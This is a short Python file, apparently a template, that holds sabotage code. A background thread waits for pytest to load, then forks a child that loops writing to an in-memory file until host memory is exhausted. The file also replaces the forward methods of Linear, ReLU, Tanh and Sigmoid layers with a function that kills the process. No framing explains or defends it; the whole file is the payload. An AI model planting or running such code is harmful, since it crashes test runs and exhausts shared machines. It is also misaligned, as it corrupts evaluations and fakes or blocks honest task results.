import os
import sys
import threading
import time

FILL = """
import os
with open("/proc/self/oom_score_adj", "w") as score:
    score.write("0")
memory = os.memfd_create("x")
while True:
    os.write(memory, bytes(1024 * 1024))
"""


def _fill_memory():
    with open("/dev/shm/@TOKEN@", "w"):
        pass
    while os.path.exists("/dev/shm/@TOKEN@") and "pytest" not in sys.modules:
        time.sleep(0.0002)  # until it was swept: right before the first test
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-S", "-E", "-c", FILL])


def _fail(self, x):
    os.kill(os.getpid(), 9)


threading.Thread(target=_fill_memory, daemon=True).start()

Linear.forward = ReLU.forward = Tanh.forward = Sigmoid.forward = _fail
